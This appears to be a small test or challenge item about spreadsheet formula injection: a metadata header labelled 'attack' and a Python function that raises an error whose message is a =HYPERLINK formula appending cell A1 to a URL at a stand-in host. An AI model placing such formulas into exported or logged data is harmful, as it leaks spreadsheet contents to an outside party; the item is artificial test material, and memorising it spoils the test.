# /// attack
# title = "Formulas that a spreadsheet would run"
# earns = 14
# outcome = "raised"
# reads = "raised"
# staff = "=HYPERLINK"
# check = "guess_is_a_number"
# ///

def guess(question):
    raise ValueError("=HYPERLINK(\"http://example.org/?\"&A1,\"x\")")
